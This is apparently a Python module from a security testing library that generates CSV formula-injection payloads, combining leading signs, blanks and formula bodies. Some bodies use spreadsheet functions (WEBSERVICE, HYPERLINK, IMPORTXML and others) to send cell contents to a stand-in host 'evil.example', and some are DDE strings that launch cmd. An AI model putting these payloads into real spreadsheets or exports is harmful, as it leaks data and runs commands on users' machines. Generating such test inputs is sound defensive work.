"""Formula injection in CSV: the sign that begins a formula × blanks before it × what the formula does.

The signs are those of OWASP's page on CSV injection: = + - @, a tab and a carriage return.
"""

from __future__ import annotations

import random

from pydantic import validate_call

from unseen.security.attacks.grammar import Idioms, drawer, extras, forms
from unseen.security.attacks.spelling import cased

_CALLS = {
    "link": ('{HYPERLINK}("{address}?x="&{cell},"open")', '{HYPERLINK}("{address}?"&{cell};"see")'),
    "fetch": (
        '{WEBSERVICE}("{address}?x="&{cell})',
        '{IMPORTXML}("{address}","//a")',
        '{IMPORTDATA}("{address}")',
        '{IMAGE}("{address}?x="&{cell})',
        '{IMPORTFEED}("{address}")',
    ),
    "exchange": ("cmd|'/C calc'!A0", "cmd|' /C notepad'!'A1'", 'DDE("cmd";"/C calc";"x")'),
    "other_cell": ("{cell}", "{SUM}(A1:{cell})", "{cell}&{cell}", '{INDIRECT}("{cell}")'),
}
_SIGNS = {"equals": ("=",), "plus": ("+", "+=", "+1+"), "minus": ("-", "-1+", "-2+3+"), "at": ("@",)}
_LEADS = {"": ("",), "blank": (" ", "  "), "tab": ("\t",), "line": ("\r", "\n", "\r\n")}


@validate_call
def idioms(*, address: str = "http://evil.example/", cell: str = "B2", extra: tuple[str, ...] = ()) -> Idioms:
    """Give the idioms of formula injection: each sign bare and behind blanks, and each kind of formula.

    Args:
        address: where a formula sends what it reads.
        cell: another cell.
        extra: idioms of the item's own.
    """

    def spell(rng: random.Random, text: str) -> str:
        for name in (
            "HYPERLINK",
            "WEBSERVICE",
            "IMPORTXML",
            "IMPORTDATA",
            "IMPORTFEED",
            "IMAGE",
            "SUM",
            "INDIRECT",
        ):
            text = text.replace(f"{{{name}}}", cased(rng, name))
        return text.replace("{address}", address).replace("{cell}", cell)

    calls = [call for some in _CALLS.values() for call in some]
    found = {
        sign + (f"_{lead}" if lead else ""): forms(
            spell, *(f"{blank}{one}{call}" for blank in blanks for one in signs for call in calls)
        )
        for sign, signs in _SIGNS.items()
        for lead, blanks in _LEADS.items()
    }
    signs = [sign for some in _SIGNS.values() for sign in some]
    found |= {
        name: forms(spell, *(f"{sign}{call}" for sign in signs for call in some))
        for name, some in _CALLS.items()
    }
    return {**found, **extras(spell, extra)}


draw = drawer(idioms)
